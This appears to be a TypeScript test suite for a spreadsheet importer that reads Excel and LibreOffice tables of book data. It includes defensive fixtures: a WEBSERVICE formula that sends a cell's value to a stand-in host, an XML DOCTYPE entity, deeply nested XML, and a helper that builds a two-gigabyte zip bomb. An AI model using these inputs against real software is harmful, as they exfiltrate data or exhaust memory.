import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { deflateRawSync } from "node:zlib";
import fc from "fast-check";
import { unzipSync, zipSync } from "fflate";
import { tries } from "../../running/same-each-time.ts";
import { cellsOf, faultOf, read } from "./reading.ts";
import {
  calcTable,
  excel,
  excelTable,
  letters,
  openDocument,
  packed,
  type Table,
} from "./spreadsheets.ts";

const TABLE: Table = [
  ["ISBN", "Autor", "Titel", "Signatur"],
  ["978-3-548-60097-4", "Keun, Irmgard", "Das kunstseidene Mädchen", "Ro Keu"],
  ["", "Büchner, Georg", 'Lenz & "Woyzeck" <1>', ""],
];

/** What an office program can hold at all: whole characters that XML knows, and tabs and line ends. */
const anyText = fc
  .string({ unit: "grapheme", maxLength: 20 })
  .map((text) => text.toWellFormed().replace(/[\0-\x08\x0b-\x1f\ufffe\uffff]/g, "_"));
const anyTable = fc
  .array(
    fc.array(fc.oneof(anyText, fc.constantFrom("", "  a  b ", "_x0041_", "1\n\n2", "\t", "=1+1")), {
      minLength: 3,
      maxLength: 3,
    }),
    { minLength: 1, maxLength: 8 },
  )
  .map(
    (rows): Table => [
      ["Titel", "Jahr", "ISBN"],
      ...rows.filter((row) => row.some((cell) => cell !== "")),
    ],
  );

for (const [name, format, write] of [
  ["Excel", "xlsx", excelTable],
  ["LibreOffice", "ods", calcTable],
] as const) {
  describe(`a table of ${name}`, () => {
    test("is known by its content and read as it is", async () => {
      const found = await read(write(TABLE), 1000);
      assert.equal(found.format, format);
      assert.deepEqual(
        found.rows.map(({ cells }) => cells),
        TABLE,
      );
    });

    test("of any texts comes in as it was", async () => {
      await fc.assert(
        fc.asyncProperty(anyTable, async (table) => {
          assert.deepEqual(await cellsOf(write(table)), table);
        }),
        { numRuns: tries(150) },
      );
    });

    test("that is cut off or damaged is refused", async () => {
      const whole = write(TABLE);
      for (const bytes of [whole.slice(0, -30), whole.slice(0, 200)])
        assert.match(await faultOf(bytes), /the file is damaged/);
      // Whatever byte is turned, it is another table only where it is said to be one.
      let told = 0;
      for (let at = 60; at < whole.length - 40; at += 7) {
        const turned = whole.slice();
        turned[at] = turned[at]! ^ 0x55;
        if ((await faultOf(turned)) !== "no fault") told++;
      }
      assert.ok(told > 50, `${told}`);
    });
  });
}

describe("a sheet of Excel", () => {
  const sheet = (data: string, book = {}) => excel([{ name: "Liste", data }], book);
  const cell = (content: string, attributes = "") => `<c r="A2"${attributes}>${content}</c>`;
  const one = async (content: string, book = {}) =>
    (
      await cellsOf(
        sheet(
          `<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row><row r="2">${content}</row>`,
          book,
        ),
      )
    )[1];

  test("has numbers as people see them: an ISBN without an exponent, a barcode with its zeros", async () => {
    const styles =
      '<numFmts><numFmt numFmtId="164" formatCode="00000000"/></numFmts><cellXfs><xf numFmtId="0"/><xf numFmtId="164"/></cellXfs>';
    assert.deepEqual(await one(cell("<v>9783548600974</v>")), ["9783548600974"]);
    assert.deepEqual(await one(cell("<v>9.7835486009740005E12</v>")), ["9783548600974"]);
    assert.deepEqual(await one(cell("<v>0.30000000000000004</v>")), ["0.3"]);
    assert.deepEqual(await one(cell("<v>12345</v>", ' s="1"'), { styles }), ["00012345"]);
  });

  test("has days and times by the format of their number", async () => {
    const styles =
      '<numFmts><numFmt numFmtId="164" formatCode="dd\\.mm\\.yyyy;@"/><numFmt numFmtId="165" formatCode="&quot;Tag &quot;0"/><numFmt numFmtId="166" formatCode="[Red]0.00"/></numFmts><cellStyleXfs><xf numFmtId="14"/></cellStyleXfs><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="164"/><xf numFmtId="22"/><xf numFmtId="21"/><xf numFmtId="165"/><xf numFmtId="166"/></cellXfs>';
    const dated = (value: string, style: number) =>
      one(cell(`<v>${value}</v>`, ` s="${style}"`), { styles });
    assert.deepEqual(await dated("45352", 0), ["45352"]);
    assert.deepEqual(await dated("45352", 1), ["2024-03-01"]);
    assert.deepEqual(await dated("45351", 2), ["2024-02-29"]);
    assert.deepEqual(await dated("45352.5", 3), ["2024-03-01T12:00:00"]);
    assert.deepEqual(await dated("0.75", 4), ["18:00:00"]);
    assert.deepEqual(await dated("1", 1), ["1900-01-01"]);
    assert.deepEqual(await dated("61", 1), ["1900-03-01"]);
    assert.deepEqual(await dated("7", 5), ["7"]);
    assert.deepEqual(await dated("7.5", 6), ["7.5"]);
    const book = { styles, from1904: true };
    assert.deepEqual(await one(cell("<v>43890</v>", ' s="1"'), book), ["2024-03-01"]);
  });

  test("has texts in all the ways in which they are written", async () => {
    const shared =
      '<si><t>ganz</t></si><si><r><t>ge</t></r><r><rPr><b/></rPr><t xml:space="preserve">teilt </t></r><rPh sb="0" eb="1"><t>laut</t></rPh></si>';
    assert.deepEqual(await one(cell("<v>0</v>", ' t="s"'), { shared }), ["ganz"]);
    assert.deepEqual(await one(cell("<v>1</v>", ' t="s"'), { shared }), ["geteilt "]);
    assert.deepEqual(
      await one(cell("<is><r><t>in</t></r><r><t>line_x000D_</t></r></is>", ' t="inlineStr"')),
      ["inline\r"],
    );
    assert.deepEqual(await one(cell("<v>1</v>", ' t="b"')), ["true"]);
    assert.deepEqual(await one("<c><v>1</v></c><c/><c><v>3</v></c>"), ["1", "", "3"]);
  });

  test("gives the result of a formula, and never runs it", async () => {
    const run = '<f>WEBSERVICE("http://x.example/"&amp;A1)</f>';
    assert.deepEqual(await one(cell(`${run}<v>Ergebnis</v>`, ' t="str"')), ["Ergebnis"]);
    assert.deepEqual(await one(cell("<f>1+1</f><v>2</v>")), ["2"]);
    assert.equal(await one(cell("<f>1+1</f>")), "formula");
    assert.equal(await one(cell("<f>1/0</f><v>#DIV/0!</v>", ' t="e"')), "cell-error");
  });

  test("is the first in which a table stands; merged and empty cells are where they were", async () => {
    const text = (reference: string, value: string) =>
      `<c r="${reference}" t="inlineStr"><is><t>${value}</t></is></c>`;
    const file = excel([
      { name: "Leer", data: "" },
      { name: "Hinweis", data: `<row r="1">${text("A1", "Bitte lesen")}</row>` },
      {
        name: "Bücher",
        data: `<row r="3">${text("A3", "Titel")}${text("C3", "Jahr")}</row><row r="4"><c r="A4" s="3"/></row><row r="6">${text("C6", "1913")}<c r="XFD6" s="1"/></row>`,
      },
    ]);
    assert.deepEqual((await read(file)).rows, [
      { line: 3, cells: ["Titel", "", "Jahr"] },
      { line: 6, cells: ["", "", "1913"] },
    ]);
  });

  test("says in each row what a cell that is merged over several says, below the header", async () => {
    const text = (reference: string, value: string) =>
      `<c r="${reference}" t="inlineStr"><is><t>${value}</t></is></c>`;
    const file = excel([
      {
        name: "Liste",
        data: `<row r="1">${text("A1", "Autor")}${text("B1", "Titel")}</row><row r="2">${text("B2", "(kurz)")}</row><row r="3">${text("A3", "Lindgren")}${text("B3", "Pippi")}</row><row r="4"><c r="A4"/>${text("B4", "Michel")}</row><row r="6">${text("B6", "Ronja")}</row><row r="7">${text("B7", "Momo")}</row>`,
        merged:
          '<mergeCells count="3"><mergeCell ref="A1:A2"/><mergeCell ref="A3:A6"/><mergeCell ref="B7:C7"/></mergeCells>',
      },
    ]);
    assert.deepEqual(await cellsOf(file), [
      ["Autor", "Titel"],
      ["", "(kurz)"],
      ["Lindgren", "Pippi"],
      ["Lindgren", "Michel"],
      ["Lindgren", "Ronja"],
      ["", "Momo"],
    ]);
  });

  test("is refused where it has ten thousand columns, with the cell", async () => {
    const row = Array.from(
      { length: 10_000 },
      (_, column) => `<c r="${letters(column)}1"><v>1</v></c>`,
    );
    assert.match(
      await faultOf(sheet(`<row r="1">${row.join("")}</row>`)),
      /^sheet “Liste”, cell ALM1: there are more than 1000 columns/,
    );
  });

  test("is refused where its XML is broken, asks for a DOCTYPE or goes ever deeper", async () => {
    assert.match(
      await faultOf(sheet("<row r='1'><c></row>")),
      /^sheet “Liste”: this is not well-formed XML/,
    );
    assert.match(await faultOf(sheet("<a>".repeat(5000))), /not well-formed/);
    const parts = {
      "xl/workbook.xml": '<!DOCTYPE x [<!ENTITY a "aaaa">]><workbook>&a;</workbook>',
    };
    assert.match(await faultOf(packed(parts)), /DOCTYPE/);
    assert.match(await faultOf(sheet("")), /no sheet with anything/);
  });
});

describe("a sheet of LibreOffice", () => {
  const sheet = (data: string) => openDocument([{ name: "Liste", data }]);
  const head =
    '<table:table-row><table:table-cell office:value-type="string"><text:p>x</text:p></table:table-cell></table:table-row>';
  const one = async (cells: string) =>
    (await cellsOf(sheet(`${head}<table:table-row>${cells}</table:table-row>`)))[1];
  const cell = (attributes: string, shown: string) =>
    `<table:table-cell ${attributes}><text:p>${shown}</text:p></table:table-cell>`;

  test("has numbers, days, times and truths by their value, not as they are shown", async () => {
    const value = 'office:value-type="float" office:value';
    assert.deepEqual(await one(cell(`${value}="9783548600974"`, "9,78355E+12")), ["9783548600974"]);
    assert.deepEqual(await one(cell(`${value}="12345"`, "00012345")), ["00012345"]);
    assert.deepEqual(
      await one(
        cell('office:value-type="currency" office:currency="EUR" office:value="12.5"', "12,50 €"),
      ),
      ["12.5"],
    );
    assert.deepEqual(
      await one(cell('office:value-type="date" office:date-value="2024-03-01"', "01.03.24")),
      ["2024-03-01"],
    );
    assert.deepEqual(
      await one(cell('office:value-type="time" office:time-value="PT18H00M00S"', "18:00")),
      ["18:00:00"],
    );
    assert.deepEqual(
      await one(cell('office:value-type="boolean" office:boolean-value="true"', "WAHR")),
      ["true"],
    );
  });

  test("leaves notes out, keeps links, and gives results of formulas", async () => {
    const note =
      "<office:annotation><dc:creator>x</dc:creator><text:p>Notiz</text:p></office:annotation>";
    assert.deepEqual(
      await one(
        `<table:table-cell office:value-type="string">${note}<text:p>ein <text:a>Verweis</text:a></text:p></table:table-cell>`,
      ),
      ["ein Verweis"],
    );
    assert.deepEqual(
      await one(cell('table:formula="of:=1+1" office:value-type="float" office:value="2"', "2")),
      ["2"],
    );
    assert.equal(
      await one(
        cell(
          'table:formula="of:=1/0" office:value-type="string" calcext:value-type="error"',
          "#DIV/0!",
        ),
      ),
      "cell-error",
    );
    assert.equal(await one('<table:table-cell table:formula="of:=1+1"/>'), "formula");
  });

  test("covers what is merged, and repeats what is the same, with bounds", async () => {
    const merged = `${cell('table:number-columns-spanned="2" office:value-type="string"', "a")}<table:covered-table-cell/>${cell('office:value-type="string"', "b")}`;
    assert.deepEqual(await one(merged), ["a", "", "b"]);
    const string = 'office:value-type="string"';
    const row = (...cells: string[]) => `<table:table-row>${cells.join("")}</table:table-row>`;
    const down = sheet(
      `${row(cell(string, "Autor"), cell(string, "Titel"))}${row(cell(`table:number-rows-spanned="2" ${string}`, "Ende"), cell(string, "Momo"))}${row("<table:covered-table-cell/>", cell(string, "Jim"))}${row("<table:table-cell/>", cell(string, "Pippi"))}`,
    );
    assert.deepEqual(await cellsOf(down), [
      ["Autor", "Titel"],
      ["Ende", "Momo"],
      ["Ende", "Jim"],
      ["", "Pippi"],
    ]);
    const twice = sheet(
      `${head}<table:table-row table:number-rows-repeated="3">${cell('office:value-type="string"', "y")}</table:table-row>`,
    );
    assert.deepEqual(
      (await read(twice)).rows.map(({ line }) => line),
      [1, 2, 3, 4],
    );
    const wide = sheet(
      `<table:table-row>${cell('table:number-columns-repeated="10000" office:value-type="string"', "y")}</table:table-row>`,
    );
    assert.match(await faultOf(wide), /cell ALM1: there are more than 1000 columns/);
  });

  test("with a password says so", async () => {
    const locked = openDocument(
      [{ name: "x", data: "" }],
      '<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry>',
    );
    assert.match(await faultOf(locked), /has a password/);
  });
});

describe("a zip file", () => {
  test("of something else is refused", async () => {
    assert.match(await faultOf(packed({ "bild.png": "x" })), /no table of Excel or OpenDocument/);
  });

  test("of two gigabytes is refused before they are unpacked (long)", async () => {
    const spaces = Buffer.alloc(1024 * 1024, " ");
    // Long ones, since what is bounded is their bytes and not their number.
    const row = `<row>${" ".repeat(1013)}</row>`;
    const rows = Buffer.alloc(1024 * 1024, row);
    for (const [filling, sentence] of [
      [spaces, /too long to be a row/],
      [rows, /unpacked it has more than 256 MiB/],
    ] as const) {
      const before = process.memoryUsage().rss;
      assert.match(await faultOf(bomb(filling)), sentence);
      const grown = (process.memoryUsage().rss - before) / 2 ** 20;
      assert.ok(grown < 300, `${grown} MiB`);
    }
  });

  test("whose texts would fill the memory is refused (long)", async () => {
    const shared = `<si><t>${"x".repeat(1_000_000)}</t></si>`.repeat(70);
    assert.match(
      await faultOf(excel([{ name: "x", data: "" }], { shared })),
      /unpacked it has more than 64 MiB/,
    );
  });
});

/** An Excel file whose sheet goes on for two gigabytes: blocks of DEFLATE, one as the other. */
function bomb(filling: Uint8Array): Uint8Array {
  const sheet = deflateRawSync(Buffer.from("<worksheet><sheetData>"), { finishFlush: 2 });
  const block = deflateRawSync(filling, { level: 9, finishFlush: 3 });
  const data = Buffer.concat([sheet, ...Array<Buffer>(2048).fill(block)]);
  const small = excel([{ name: "x", data: "" }]);
  const parts = Object.fromEntries(
    ["xl/workbook.xml", "xl/_rels/workbook.xml.rels"].map((name) => [name, partOf(small, name)]),
  );
  // As if it were stored; then its method and its crc are changed where the directory has them.
  const zip = Buffer.from(zipSync({ ...parts, "xl/worksheets/sheet1.xml": [data, { level: 0 }] }));
  const at = zip.lastIndexOf("xl/worksheets/sheet1.xml") - 46;
  zip.writeUInt16LE(8, at + 10);
  return zip;
}

function partOf(zip: Uint8Array, name: string): Uint8Array {
  return unzipSync(zip)[name]!;
}
